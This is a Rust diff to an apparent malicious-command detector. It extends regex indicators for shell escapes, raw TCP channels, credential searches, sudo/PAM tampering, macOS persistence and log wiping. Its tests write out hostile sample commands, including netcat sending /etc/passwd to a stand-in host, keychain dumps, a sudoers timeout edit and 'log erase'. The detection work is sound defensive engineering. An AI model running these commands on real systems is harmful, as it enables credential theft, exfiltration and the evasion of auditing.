@@ -86,7 +86,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "exec_from_tmp",
         evidence: "runs a program from /tmp or /dev/shm",
         all_of: &[&["/tmp/", "/dev/shm/", "/var/tmp/", "cd /tmp", "cd /dev/shm", "cd /var/tmp"]],
-        confirm: Confirm::Regex(r"(^|\n|[;&|]\s*|nohup\s+|sudo\s+|setsid\s+|exec\s+)(/tmp|/var/tmp|/dev/shm)/[\w.\-/]+|\bcd\s+(/tmp|/var/tmp|/dev/shm)[^\n]*(&&|;|\n)\s*\./"),
+        confirm: Confirm::Regex(r"(^|\n|[;&|]\s*|nohup\s+|sudo\s+|setsid\s+|(^|[\s;&|])exec\s+)(/tmp|/var/tmp|/dev/shm)/[\w.\-/]+|\bcd\s+(/tmp|/var/tmp|/dev/shm)[^\n]*(&&|;|\n)\s*\./"),
     },
     IndicatorDef {
         id: "dev_tcp",
@@ -203,13 +203,13 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "history_wipe",
         evidence: "clears or disables shell history",
         all_of: &[&["hist"]],
-        confirm: Confirm::Regex(r"history\s+-c|unset\s+HISTFILE|HISTFILE=\s*/dev/null|HISTSIZE=0|HISTFILESIZE=0|set\s+\+o\s+history|(rm|shred|truncate|unlink)[^\n]*\.\w*_history|(^|[;&|]\s*|:\s*|/dev/null\s*|echo\s*(\x22\x22|'')?\s*)>\s*\S*\.(bash|zsh|sh|python)_history|ln\s+-sf?\s+/dev/null\s+\S*_history|HISTCONTROL=ignore"),
+        confirm: Confirm::Regex(r"history\s+-c|unset\s+HISTFILE|HISTFILE=\s*[\x22']?/dev/null|HISTSIZE=[\x22']?0\b|HISTFILESIZE=[\x22']?0\b|set\s+\+o\s+history|(rm|shred|truncate|unlink)[^\n]*\.\w*_history|(^|[;&|]\s*|:\s*|/dev/null\s*|echo\s*(\x22\x22|'')?\s*)>\s*\S*\.(bash|zsh|sh|python)_history|ln\s+-sf?\s+/dev/null\s+\S*_history|HISTCONTROL=ignore"),
     },
     IndicatorDef {
         id: "log_wipe",
         evidence: "wipes or truncates system logs",
-        all_of: &[&["/var/log", "wtmp", "btmp", "lastlog", "journalctl", "auth.log", "syslog", "utmp"]],
-        confirm: Confirm::Regex(r"rm\s+-[rf]+\s+[\x22']?/var/log/?(\*|\s|$|[\x22'])|(^|[^>])>\s*/var/log/\S+|truncate\s+[^\n]*(/var/log|wtmp|btmp|lastlog|utmp)|shred\s+[^\n]*(/var/log|wtmp|btmp|lastlog)|/dev/null\s*>\s*/var/log|journalctl\s+[^\n]*--vacuum|\bdd\s+[^\n]*of=\s*/var/log/|rm\s+[^\n]*(wtmp|btmp|lastlog|/var/log/(auth|secure|messages|syslog))"),
+        all_of: &[&["/var/log", "wtmp", "btmp", "lastlog", "journalctl", "auth.log", "syslog", "utmp", "log erase", "journald", "-json.log"]],
+        confirm: Confirm::Regex(r"\blog\s+erase\b|\b(srm|unlink|shred|rm)\s+(-[a-z]+\s+)*[^\n]*/var/log/(system\.log|syslog|auth\.log|secure|messages|journal)|systemctl\s+(stop|disable|mask)\s+(systemd-journald|rsyslog|syslog)\b|truncate\s+-s\s*0\s+[^\n]*-json\.log|rm\s+-[rf]+\s+[\x22']?/var/log/?(\*|\s|$|[\x22'])|(^|[^>])>\s*/var/log/\S+|truncate\s+[^\n]*(/var/log|wtmp|btmp|lastlog|utmp)|shred\s+[^\n]*(/var/log|wtmp|btmp|lastlog)|/dev/null\s*>\s*/var/log|journalctl\s+[^\n]*--vacuum|\bdd\s+[^\n]*of=\s*/var/log/|rm\s+[^\n]*(wtmp|btmp|lastlog|/var/log/(auth|secure|messages|syslog))"),
     },
     IndicatorDef {
         id: "security_tools_disabled",
@@ -217,7 +217,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         all_of: &[&[
             "setenforce", "selinux", "systemctl", "service", "ufw", "iptables", "auditctl", "kill", "/proc/sys/kernel", "mdatp", "spctl", "mppreference", "realtime", "aegis", "aliyun", "apparmor", "firewalld", "auditd", "falco", "uninstall",
         ]],
-        confirm: Confirm::Regex(r"setenforce\s+0|SELINUX=disabled|(systemctl|service)\s+(stop|disable|mask)\s+[^\n]*(firewalld|apparmor|auditd|ufw|iptables|falco|osquery|aliyun|aegis|cloudmonitor|bcm-agent|wazuh|crowdstrike|falcon|sysdig|tetragon|clamav|selinux|yundun|qcloud)|(firewalld|apparmor|auditd|falco|aegis)\s+(stop|disable)|ufw\s+disable|iptables\s+(-F|--flush|-X|-P\s+INPUT\s+ACCEPT)|auditctl\s+-(D|e\s*0)|(pkill|killall|kill\s+-9)[^\n]*(auditd|falco|aliyun|aegis|osquery|wazuh)|/proc/sys/kernel/(nmi_watchdog|randomize_va_space|yama)|mdatp\s+[^\n]*disabled|spctl\s+--master-disable|Set-MpPreference|DisableRealtimeMonitoring|aegis_uninstall|uninstall[^\n]*(aegis|aliyun|qcloud|yunjing)"),
+        confirm: Confirm::Regex(r"setenforce\s+0|SELINUX=disabled|(systemctl|service)\s+(stop|disable|mask)\s+[^\n]*(firewalld|apparmor|auditd|ufw|iptables|falco|osquery|aliyun|aegis|cloudmonitor|bcm-agent|wazuh|crowdstrike|falcon|sysdig|tetragon|clamav|selinux|yundun|qcloud)|(firewalld|apparmor|auditd|falco|aegis)\s+(stop|disable)|ufw\s+disable|iptables\s+(-F|--flush|-X|-P\s+INPUT\s+ACCEPT)|auditctl\s+-(D|e\s*0)|(pkill|killall|kill\s+-9)[^\n]*(auditd|falco|aliyun|aegis|osquery|wazuh)|(>|\btee\s+(-a\s+)?)\s*[\x22']?/proc/sys/kernel/(nmi_watchdog|randomize_va_space|yama)|mdatp\s+[^\n]*disabled|spctl\s+--master-disable|Set-MpPreference|DisableRealtimeMonitoring|aegis_uninstall|uninstall[^\n]*(aegis|aliyun|qcloud|yunjing)"),
     },
     IndicatorDef {
         id: "credential_access",
@@ -237,7 +237,7 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "exfil_service",
         evidence: "sends data to a webhook, paste or out-of-band service (Discord/Telegram/pastebin/ngrok)",
         all_of: &[&[
-            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh/", "ngrok", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin.net", "requestbin.com", "requestb.in", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
+            "api/webhooks", "api.telegram.org", "pastebin.com", "transfer.sh/", "ngrok.io", "ngrok.app", "ngrok-free", "ngrok.dev", "oastify", "burpcollaborator", "interact.sh", "interactsh", "requestbin.net", "requestbin.com", "requestb.in", "webhook.site", "pipedream", "canarytokens", "dnslog", "ceye.io", "bashupload", "file.io", "anonfiles", "termbin", "0x0.st", "serveo", "hookbin", "beeceptor", "discord.gg", "paste.ee", "ghostbin", "hastebin", "glitch.me", "repl.co", "herokuapp", "workers.dev", "trycloudflare",
         ]],
         confirm: Confirm::Literals,
     },
@@ -442,7 +442,9 @@ pub const INDICATORS: &[IndicatorDef] = &[
         id: "shell_spawn_argument",
         evidence: "starts /bin/sh from inside another command (shell escape or spawn)",
         all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
-        confirm: Confirm::Regex(r"\S[^\n]*[\s=\x22'(:;,`]/bin/(ba|da|z|k|a)?sh\b|[^#\n]!/bin/(ba|da|z|k|a)?sh\b"),
+        // Not on comment, shebang or doctest lines (`#! /bin/sh`, `# init=/bin/sh`, `>>> run(["/bin/sh"])`),
+        // and only after something on the same line.
+        confirm: Confirm::Regex(r"(^|\n)[ \t]*[^#\s>][^\n]*[ \t=\x22'(:;,`]/bin/(ba|da|z|k|a)?sh\b|[^#\n]!/bin/(ba|da|z|k|a)?sh\b"),
     },
     IndicatorDef {
         id: "setup_py_custom_command",
@@ -514,7 +516,102 @@ pub const INDICATORS: &[IndicatorDef] = &[
         all_of: &[&["eval", "exec", "compile"], &["\\x", "\\1", "\\0"]],
         confirm: Confirm::Regex(r"\b(eval|exec|compile)\s*\(\s*[bru]?[\x22'](\\x[0-9a-f]{2}|\\[0-7]{3}){4}"),
     },
+    IndicatorDef {
+        id: "shell_tied_to_terminal",
+        evidence: "runs /bin/sh with its input/output tied to the terminal from another program's option or config (shell escape)",
+        all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
+        confirm: Confirm::Regex(r"/bin/(ba|da|z|k|a)?sh[ \t]*(-[a-z]+[ \t]*)*(1>&0|0<&1|<[ \t]*/dev/tty|>[ \t]*/dev/tty|<[ \t]*\$\(tty\)|>&2\b|1>&2|2>&0)|%\([ \t]*/bin/(ba|da|z|k|a)?sh|[\x22']\}?[ \t]*;?[ \t]*/bin/(ba|da|z|k|a)?sh[ \t]*#|\bexecute\([ \t]*/bin/(ba|da|z|k|a)?sh|command[ \t]+/bin/(ba|da|z|k|a)?sh\)|;[ \t]*/bin/(ba|da|z|k|a)?sh[ \t]*;"),
+    },
+    IndicatorDef {
+        id: "raw_tcp_channel",
+        evidence: "opens a raw TCP connection from a scripting tool (awk /inet/tcp, Perl IO::Socket, Ruby TCPSocket, Lua socket, netcat file transfer)",
+        all_of: &[&["/inet/tcp", "/inet/udp", "io::socket", "tcpsocket", "fsockopen", "[socket ", "s_client", "tcp-connect:", "sockets", "net.connect", "net.socket", "net.createconnection", "socket.tcp", "\"socket\"", "'socket'", "nc ", "ncat ", "netcat "]],
+        confirm: Confirm::Regex(r"/inet/(tcp|udp)/|IO::Socket::INET|TCPSocket\.(new|open)|fsockopen\s*\(|\[socket[ \t]|s_client[ \t]+-quiet[ \t]+-connect|tcp-connect:|using[ \t]+Sockets[ \t]*;|\bnet\.(connect|Socket|createConnection)[ \t]*\(|socket\.tcp[ \t]*\(|require[ \t]*\(?[ \t]*[\x22']socket[\x22']|\b(nc|ncat|netcat)([ \t]+-[a-z]+)*[ \t]+[\w.<>-]+[ \t]+\d+[ \t]*[<>]"),
+    },
+    IndicatorDef {
+        id: "wrapper_runs_shell",
+        evidence: "hands an interactive /bin/sh to another program to run (`chrt 1 /bin/sh`, `doas /bin/sh`): shell escape through a wrapper",
+        all_of: &[&["/bin/sh", "/bin/bash", "/bin/dash", "/bin/zsh", "/bin/ash", "/bin/ksh"]],
+        confirm: Confirm::RegexWhere(
+            r"(^|\n|[;&|(]|`)[ \t]*[a-z][\w.-]*([ \t]+[^\s;&|#<>]+)*[ \t]+/bin/(ba|da|z|k|a)?sh[ \t]*($|\n|[;&|)\x22'`])",
+            wrapper_not_admin,
+        ),
+    },
+    IndicatorDef {
+        id: "credential_file_search",
+        evidence: "searches the disk or keychain for keys, tokens and saved passwords (id_rsa, cloud credentials, browser logins)",
+        all_of: &[&["find", "security ", "grep"]],
+        confirm: Confirm::Regex(r"\bfind\s+[^\n|;]*-i?name\s+[\x22']?[*.]*(id_rsa|id_dsa|id_ecdsa|id_ed25519|credentials|\.netrc|accessTokens\.json|msal_token_cache\S*|\.gnupg|places\.sqlite|logins\.json|key[34]\.db|Login Data|wallet\S*|\.kdbx|\.git-credentials|\.pgpass|\.bash_history)[\x22']?(\s|$)|\bsecurity\s+(dump-keychain|find-generic-password|find-internet-password)\b"),
+    },
+    IndicatorDef {
+        id: "auth_config_tamper",
+        evidence: "weakens sudo or PAM authentication (edits sudoers or /etc/pam.d)",
+        all_of: &[&["sudoers", "pam.d", "tty_tickets", "timestamp_timeout", "pam_permit"]],
+        confirm: Confirm::Regex(r"sed\s+-i[^\n]*/etc/(sudoers|pam\.d/)|timestamp_timeout\s*=\s*-1|!tty_tickets|(>>|\btee\s+-a)\s*[\x22']?/etc/pam\.d/|auth\s+sufficient\s+\S*(pam_permit|/tmp/)"),
+    },
+    IndicatorDef {
+        id: "macos_launch_persistence",
+        evidence: "installs a macOS launch agent/daemon, startup item or login hook (persistence)",
+        all_of: &[&["/library/", "launchctl", "loginhook", "logouthook"]],
+        confirm: Confirm::Regex(r"(>>?|\btee\s+(-a\s+)?|\bcp\s+\S+\s+|\bmv\s+\S+\s+|\btouch\s+|\bln\s+-s\S*\s+\S+\s+)\s*[\x22']?\S*/Library/(LaunchAgents|LaunchDaemons|StartupItems)/|launchctl\s+(load|bootstrap|submit)\b|defaults\s+write\s+[^\n]*(LoginHook|LogoutHook)"),
+    },
 ];
+
+/// `accept` for `wrapper_runs_shell`: not a login-shell setting (`useradd -s /bin/bash`,
+/// `chsh`, passwd lines), not a file operation on the shell binary (`ln`, `cp`,
+/// `test -x`), and not an admin opening a shell in a container or over ssh.
+fn wrapper_not_admin(matched: &[u8]) -> bool {
+    let text = String::from_utf8_lossy(matched).to_ascii_lowercase();
+    let text = text.trim_start_matches(|c: char| c.is_whitespace() || ";&|(`".contains(c));
+    let words: Vec<&str> = text.split_whitespace().collect();
+    const NOT_ESCAPES: &[&str] = &[
+        "exec",
+        "cp",
+        "ln",
+        "mv",
+        "ls",
+        "rm",
+        "test",
+        "[",
+        "which",
+        "type",
+        "command",
+        "file",
+        "stat",
+        "readlink",
+        "need_cmd",
+        "add-shell",
+        "remove-shell",
+        "update-alternatives",
+        "dpkg-divert",
+        "chsh",
+        "useradd",
+        "usermod",
+        "adduser",
+        "echo",
+        "printf",
+        "grep",
+        "cat",
+        "if",
+    ];
+    const ADMIN_TOOLS: &[&str] = &["docker", "podman", "kubectl", "ssh", "nerdctl", "crictl"];
+    if words.first().is_none_or(|w| NOT_ESCAPES.contains(w)) {
+        return false;
+    }
+    if words.iter().any(|w| ADMIN_TOOLS.contains(w)) {
+        return false;
+    }
+    ![
+        "-s /bin/",
+        "--shell /bin/",
+        "-l /bin/",
+        ":/bin/",
+        "shell=",
+        "usershell",
+    ]
+    .iter()
+    .any(|p| text.contains(p))
+}
 
 /// `accept` for `raw_ip_url`: the match ends with the dotted quad.
 fn public_ip(matched: &[u8]) -> bool {
@@ -1128,6 +1225,90 @@ mod tests {
 
     fn fires(text: &str, id: &str) -> bool {
         fired(text).contains(&id)
+    }
+
+    #[test]
+    fn shell_escapes_through_wrappers_and_raw_tcp() {
+        for text in [
+            "chrt 1 /bin/sh",
+            "doas -u root /bin/sh",
+            "ip netns exec foo /bin/sh",
+        ] {
+            assert!(fires(text, "wrapper_runs_shell"), "{text}");
+        }
+        for text in [
+            "useradd -m -s /bin/bash app",
+            "docker exec -it web /bin/bash",
+            "ln -sf bash /bin/sh",
+            "ssh host /bin/bash",
+        ] {
+            assert!(!fires(text, "wrapper_runs_shell"), "{text}");
+        }
+        for text in [
+            "rpm --eval '%(/bin/sh 1>&2)'",
+            "vi -c ':!/bin/sh </dev/tty'",
+            "zip x.zip /etc/hosts -T -TT '/bin/sh #'",
+        ] {
+            assert!(fires(text, "shell_tied_to_terminal"), "{text}");
+        }
+        assert!(!fires("exec /bin/sh -c \"$@\"", "shell_tied_to_terminal"));
+        for text in [
+            "gawk 'BEGIN { s = \"/inet/tcp/0/h/1\" }'",
+            "perl -MIO::Socket::INET -e 'x'",
+            "nc host.example 9001 < /etc/passwd",
+            "lua -e 'local s=require(\"socket\")'",
+        ] {
+            assert!(fires(text, "raw_tcp_channel"), "{text}");
+        }
+        assert!(!fires(
+            "openssl s_client -connect example.com:443",
+            "raw_tcp_channel"
+        ));
+        // Shebang and comment lines name the shell; they do not spawn it.
+        assert!(!fires(
+            "#! /bin/sh\n# run from init=/bin/sh\necho ok",
+            "shell_spawn_argument"
+        ));
+        assert!(!fires(
+            "find . -name '*.mkv' -exec /tmp/rename.sh {} \\;",
+            "exec_from_tmp"
+        ));
+        assert!(fires("export HISTFILE=\"/dev/null\"", "history_wipe"));
+        assert!(!fires(
+            "cat /proc/sys/kernel/yama/ptrace_scope",
+            "security_tools_disabled"
+        ));
+        assert!(fires(
+            "echo 0 > /proc/sys/kernel/yama/ptrace_scope",
+            "security_tools_disabled"
+        ));
+    }
+
+    #[test]
+    fn credential_search_auth_tamper_macos_persistence_log_erase() {
+        assert!(fires(
+            "find / -name id_rsa 2>/dev/null",
+            "credential_file_search"
+        ));
+        assert!(fires(
+            "security dump-keychain -d login.keychain",
+            "credential_file_search"
+        ));
+        assert!(!fires(
+            "find . -name '*.py' -delete",
+            "credential_file_search"
+        ));
+        assert!(fires(
+            "sudo sed -i 's/env_reset.*$/env_reset,timestamp_timeout=-1/' /etc/sudoers",
+            "auth_config_tamper"
+        ));
+        assert!(!fires("sudo visudo -c", "auth_config_tamper"));
+        assert!(fires(
+            "sudo cp x.plist /Library/LaunchDaemons/com.x.plist",
+            "macos_launch_persistence"
+        ));
+        assert!(fires("sudo log erase --all", "log_wipe"));
+        assert!(!fires("sudo journalctl -u nginx -f", "log_wipe"));
     }
 
     #[test]
